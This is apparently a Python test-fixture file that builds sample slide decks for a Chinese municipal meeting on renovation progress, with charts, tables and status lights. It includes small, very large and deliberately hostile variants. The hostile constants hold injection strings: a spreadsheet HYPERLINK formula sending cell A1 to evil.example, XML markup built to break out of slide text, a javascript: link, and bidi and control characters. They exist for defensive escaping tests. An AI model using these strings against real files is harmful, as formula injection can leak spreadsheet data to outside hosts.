"""Books with slides made by hand for the tests of the deck: small, but with every kind of slide."""

from __future__ import annotations

import datetime as dt
from collections.abc import Sequence

from renovation.language import language
from renovation.meeting.book import (
    Book,
    Brief,
    Card,
    Chart,
    Grid,
    Mark,
    Meeting,
    Series,
    Slide,
)
from renovation.report import Stamp

# Names that are formulas, markup, links, right-to-left marks, no characters at all, or endless.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"看")'
MARKUP = '<b>粗</b>&lt;]]></a:t><a:hlinkClick r:id="rId1"/> &amp; "'
LINK = "http://evil.example/ javascript:alert(1)"
BACKWARDS = "楼\u202e%1.99\u202c\u200f\u2067 עברית"
UNSEEN = "甲\x00\x08\x1f\ufffe\ud800\u200b乙\r\n丙"
LONG = "长" * 500
LONG_WORD = "Longword" * 63
HOSTILE = (FORMULA, MARKUP, LINK, BACKWARDS, UNSEEN, LONG, LONG_WORD)

LIGHTS = ("on_schedule", "slightly_behind", "behind", "not_reported")
WORDS = ("● 达序时 +0.1", "▲ 略滞后 −5.0", "■ 滞后 −14.6", "○ 未报")
LONG_SUBDISTRICTS = (
    *(f"临江经济技术开发区第{n}片区街道办事处" for n in "一二三四五六七八九十"),
    "Riverside Economic and Technological Development Zone Eleventh Subdistrict",
    "North Lake Subdistrict",
)
COMMUNITIES = tuple(f"第{n}社区" for n in range(1, 34))


def months(count: int = 24) -> tuple[str, ...]:
    return tuple(f"{2018 + i // 12}-{i % 12 + 1:02}" for i in range(count))


def ranking(
    places: Sequence[str],
    values: Sequence[float | None],
    plan: Sequence[float | None],
    **more: object,
) -> Chart:
    """Completion of places against the phased plan, in percent."""
    lights = tuple(LIGHTS[i % 4] for i in range(len(places)))
    usual: dict[str, object] = {
        "kind": "bars",
        "categories": tuple(places),
        "series": (
            Series("完成率", tuple(values), "actual"),
            Series("序时计划", tuple(plan), "plan"),
        ),
        "unit": "%",
        "alt": "各街道完成率",
        "decimals": 1,
        "title": "排水管线分街道",
        "lights": lights,
        "labels": tuple("" if value is None else f"{value:.1f}%" for value in values),
        "texts": tuple(WORDS[i % 4] for i in range(len(places))),
    }
    return Chart(**usual | more)  # type: ignore[arg-type]


def s_curve(**more: object) -> Chart:
    """Two years: work done to 2019-07, a plan to the end, and the band between two paces."""
    names = months()
    done = tuple(round(0.24 * i + 0.01, 2) if i < 19 else None for i in range(24))
    plan = tuple(round(0.28 * i + 0.05, 2) for i in range(24))
    before, start = (None,) * 18, done[18] or 0.0
    usual: dict[str, object] = {
        "kind": "curve",
        "categories": names,
        "series": (
            Series("累计完成", done, "actual"),
            Series("序时计划", plan, "plan"),
            Series("近期速度低", (*before, *(start + 0.21 * k for k in range(6))), "low"),
            Series("近期速度高", (*before, *(start + 0.33 * k for k in range(6))), "high"),
        ),
        "unit": "万米",
        "alt": "排水管线的计划和完成",
        "decimals": 2,
        "title": "排水管线：计划、完成和推算",
        "marks": (
            Mark(0, 18, "2019-07 4.3万米"),
            Mark(1, 23, "年底目标 6.5万米"),
            Mark(3, 23, "按近期速度推算 5.4–6.0万米"),
        ),
        "festivals": ((1, "春节"), (13, "春节")),
    }
    return Chart(**usual | more)  # type: ignore[arg-type]


def columns(**more: object) -> Chart:
    """Twelve months of work, one of them not reported, against a plan."""
    values = tuple(None if i == 4 else float(100 + 20 * i) for i in range(12))
    usual: dict[str, object] = {
        "kind": "columns",
        "categories": months(12),
        "series": (Series("当月", values, "actual"), Series("计划", (180.0,) * 12, "plan")),
        "unit": "处",
        "alt": "当月完成",
        "title": "当月完成",
        "marks": (Mark(0, 11, "2018-12 320处"),),
        "festivals": ((1, "春节"),),
    }
    return Chart(**usual | more)  # type: ignore[arg-type]


def matrix(places: Sequence[str], metrics: Sequence[str], note: str = "") -> Grid:
    """A table of lights: a row for each place and one for all, a column for each metric."""
    kinds = [
        [(row + column) % 4 for column in range(len(metrics))] for row in range(len(places) + 1)
    ]
    return Grid(
        title="分指标分街道进度",
        heads=("街道", *metrics),
        aligns=("left", *["right" for _ in metrics]),
        rows=tuple(
            (place, *(WORDS[kind] for kind in row))
            for place, row in zip([*places, "全市"], kinds, strict=True)
        ),
        lights=tuple(("", *(LIGHTS[kind] for kind in row)) for row in kinds),
        totals=(*[False for _ in places], True),
        note=note,
    )


def card(label: str = "排水管线", text: str = "4.6万米", light: int = 1) -> Card:
    return Card(
        label=label,
        value=46218.0,
        text=text,
        unit="米",
        change="本月+3744米",
        completion=0.721,
        completion_text="72.1%",
        light=LIGHTS[light],
        light_text=WORDS[light],
        reference="v3·drainage_m·all·2019-07",
    )


def every_kind(names: Sequence[str] = ("凤凰", "古楼", "西山", "樊口")) -> tuple[Slide, ...]:
    """A slide of each kind, about places and metrics of these names."""
    one = names[0]
    values = [77.9, 64.5, None, 62.5, 108.8][: len(names)] + [50.0] * (len(names) - 5)
    plan = [77.1] * len(names)
    notes = ("来源：某某台账", "排水管线（米）：铺设长度。", "编号：v3·drainage_m·all·2019-07")
    gap = card("较序时进度", WORDS[1] + "个百分点")
    return (
        Slide(
            "01", "cover", "八月调度会", "2019-08-02 · 全市", points=("1. 总体进展", f"2. {one}")
        ),
        Slide(
            "02",
            "summary",
            "6项指标中4项达序时",
            "排水管线最慢。",
            cards=(card(one), *[card()] * 5),
            notes=notes,
        ),
        Slide(
            "03",
            "standings",
            "24项任务，18项达序时",
            grid=matrix(names, ("管线", "道路", "绿化", one)),
            points=("● 达序时：不落后。",),
            notes=notes,
        ),
        Slide(
            "04",
            "ranking",
            f"排水管线：{one}最快",
            "相差15.4个百分点。",
            chart=ranking(names, values, plan),
            grid=matrix(names, ("管线",)),
            notes=notes,
            remark="请樊口说明原因。",
        ),
        Slide(
            "05",
            "curve",
            "排水管线完成72.1%，落后序时进度5.0个百分点",
            cards=(card("累计完成"), card("年底目标", "6.4万米"), gap),
            chart=s_curve(),
            notes=notes,
        ),
        Slide("06", "curve", "当月完成320处", chart=columns(), notes=notes),
        Slide(
            "07",
            "changes",
            "18项灯色变化",
            "更正1项数据。",
            points=(f"{one}：由▲ 略滞后变为● 达序时", "另有14项。"),
            notes=notes,
        ),
        Slide("08", "dates", "距年底目标还有5个月", notes=notes),
    )


def book(slides: Sequence[Slide] = (), lang: str = "zh", **fields: object) -> Book:
    """A book of these slides."""
    usual: dict[str, object] = {
        "meeting": Meeting("2019-08-regular", "八月调度会", "2019-08-02", 3, lang=lang),
        "slides": tuple(slides),
        "tables": {},
        "stamp": Stamp(dt.date(2019, 7, 30), 3, is_demonstration=True),
        "title": "八月调度会",
        "subtitle": "2019-08-02",
        "foot": "来源：某某台账 · 数据截至 2019-07-30 · 第3版 · 演示数据",
        "brief": Brief("", "", "", "", "", ()),
        "t": language(lang),
        "demonstration": "演示数据" if lang == "zh" else "Demonstration data",
        "file_stem": "八月调度会_第3版",
    }
    return Book(**usual | fields)  # type: ignore[arg-type]


def hostile() -> Book:
    """Every text that somebody else writes is hostile."""
    slides = [*every_kind(HOSTILE)]
    slides += [
        Slide(
            str(10 + i),
            "questions",
            name,
            name,
            cards=(card(name, name),),
            points=(name, name),
            remark=name,
            notes=(name,),
        )
        for i, name in enumerate(HOSTILE)
    ]
    slides += [
        Slide(
            str(30 + i),
            "curve",
            "题",
            chart=s_curve(
                title=name,
                unit=name,
                alt=name,
                series=(
                    Series(name, s_curve().series[0].values, "actual"),
                    Series(name, s_curve().series[1].values, "plan"),
                ),
                marks=(Mark(0, 18, name), Mark(1, 23, name)),
                festivals=((1, name),),
            ),
        )
        for i, name in enumerate(HOSTILE)
    ]
    foot = " · ".join(HOSTILE) + " · 数据截至 2019-07-30 · 第3版 · 演示数据"
    return book(slides, foot=foot, title=FORMULA, subtitle=UNSEEN)


def large() -> Book:
    """33 communities, 12 subdistricts with long names, 14 metrics, sentences without end."""
    wide = tuple(f"指标第{n}项完成情况" for n in range(14))
    counted = [round(100 - 2.5 * i, 1) for i in range(33)]
    twelve = [round(130 - 5.5 * i, 1) for i in range(12)]
    many = tuple(
        f"第{i}项：由▲ 略滞后变为● 达序时，{'落后序时进度，' * 9}请说明。" for i in range(20)
    )
    return book(
        [
            Slide("01", "ranking", "33个社区", chart=ranking(COMMUNITIES, counted, [77.1] * 33)),
            Slide(
                "02",
                "ranking",
                "12个街道",
                "一句话。" * 12,
                chart=ranking(LONG_SUBDISTRICTS, twelve, [70.0 + i for i in range(12)]),
            ),
            Slide(
                "03",
                "standings",
                "33个社区6项",
                "说明。",
                grid=matrix(COMMUNITIES, wide[:6], "前33行。"),
            ),
            Slide("04", "standings", "12个街道14项", grid=matrix(LONG_SUBDISTRICTS, wide)),
            Slide(
                "05",
                "changes",
                "长" * 70,
                "一句话。" * 40,
                grid=matrix(LONG_SUBDISTRICTS, wide[:4]),
                points=many,
                remark="备注很长，" * 300,
            ),
            Slide(
                "06",
                "summary",
                "14项指标",
                cards=tuple(card(name, "12345.6万平方米") for name in wide),
            ),
            Slide(
                "07",
                "cover",
                "很长的会议名称" * 12,
                "2019-08-02",
                points=tuple(f"{n}. 议题" for n in range(40)),
            ),
        ]
    )


def small() -> Book:
    """One subdistrict, no rows, nothing reported, nothing but a title."""
    nothing = Grid("表", ("街道", "指标"), ("left", "right"), (), (), ())
    silent = s_curve(series=(Series("累计完成", (None,) * 24, "actual"),), marks=(), festivals=())
    return book(
        [
            Slide("01", "ranking", "一个街道", chart=ranking(("凤凰",), (0.0,), (None,))),
            Slide("02", "standings", "没有数据", grid=nothing),
            Slide("03", "curve", "没有上报", chart=silent),
            Slide("04", "missing", "没有缺报"),
            Slide(
                "05",
                "ranking",
                "都没有上报",
                chart=ranking(("凤凰", "古楼"), (None, None), (None, None)),
            ),
            Slide(
                "06",
                "curve",
                "一个月",
                chart=s_curve(
                    categories=("2019-07",),
                    series=(Series("累计完成", (5.0,), "actual"),),
                    marks=(Mark(0, 0, "2019-07 5.0万米"),),
                    festivals=((0, "春节"),),
                ),
            ),
            Slide(
                "07",
                "summary",
                "未报",
                cards=(Card("座椅", None, "未报", "座", "", None, "", "", "", ""),),
            ),
            Slide("08", "cover", "会"),
        ],
        demonstration="",
        foot="",
    )
